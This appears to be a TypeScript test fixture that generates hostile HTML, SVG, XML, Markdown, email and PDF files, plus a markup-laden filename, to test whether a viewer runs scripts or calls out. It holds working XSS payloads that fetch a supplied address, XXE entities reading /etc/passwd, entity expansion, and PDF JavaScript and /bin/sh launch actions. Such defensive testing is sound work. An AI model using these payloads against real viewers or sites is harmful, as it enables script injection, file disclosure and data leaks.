/** Files as an attacker would send them: each tries to run a script or to call `address` when it is looked at. */

export const marker = 'quicksilver';

export function hostileFiles(address: string): Readonly<Record<string, string>> {
  const script = `fetch('${address}/script');window.pwned=1;alert(1)`;
  return {
    'page.html': `<!doctype html><meta http-equiv="refresh" content="0;url=${address}/refresh">
<base href="${address}/base/"><link rel="stylesheet" href="${address}/style.css"><link rel="prefetch" href="${address}/prefetch">
<script>${script}</script><script src="${address}/remote.js"></script><body onload="${script}">
<h1>The ${marker} page</h1><img src="${address}/pixel.png" onerror="${script}"><iframe src="${address}/frame"></iframe>
<iframe srcdoc="<script>${script}</script>"></iframe><object data="file:///etc/passwd"></object><embed src="${address}/embed">
<video src="${address}/video" autoplay></video><form action="${address}/form"><input autofocus onfocus="${script}"></form>
<a href="javascript:${script}">${marker} link</a><style>@import '${address}/import.css';body{background:url(${address}/background)}</style>
<p>&lt;script&gt;${script}&lt;/script&gt; &lt;img src=x onerror=${script}&gt; ${marker}</p>`,
    'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${script}">
<script>${script}</script><image xlink:href="${address}/image.png"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">
<iframe src="${address}/svg-frame"/></body></foreignObject><use href="${address}/use.svg#a"/><title>${marker} drawing</title><text>${marker} ${'in a picture '.repeat(3)}</text></svg>`,
    'entities.xml': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY call SYSTEM "${address}/entity">
<!ENTITY a "${'a'.repeat(64)}"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x><?xml-stylesheet href="${address}/style.xsl"?><p>${marker} entities: &file; &call; &b;</p></x>`,
    'notes.md': `# ${marker} notes\n\n<script>${script}</script>\n\n![pixel](${address}/markdown.png) [open me](javascript:${script})
\n<img src=x onerror="${script}"> <iframe src="${address}/markdown-frame"></iframe>\n\n[local](file:///etc/passwd) ${marker}\n`,
    'letter.eml': `From: a@example.org\nTo: b@example.org\nSubject: ${marker} letter\nMIME-Version: 1.0\nContent-Type: text/html\n
<script>${script}</script><img src="${address}/mail.png"><p>A ${marker} letter.</p>\n`,
    'paper.pdf': hostilePdf(address),
    '<img src=x onerror=alert(1)> name.txt': `The name of this ${marker} file is markup.\n`,
  };
}

/** A page that opens an address, runs a script on opening, and embeds one that does so at a click. */
function hostilePdf(address: string): string {
  const text = `BT /F1 18 Tf 40 120 Td (A ${marker} paper about weather) Tj ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${address}/pdf-script"\\)) >>
/AA << /WC << /S /URI /URI (${address}/pdf-close) >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Annots [6 0 R] /AA << /O << /S /URI /URI (${address}/pdf-page) >> >>
/Resources << /Font << /F1 5 0 R >> >> >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 400 200] /A << /S /Launch /F (/bin/sh) /URI (${address}/pdf-link) >> >>`,
  ];
  let body = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const start = body.length;
  return `${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
}
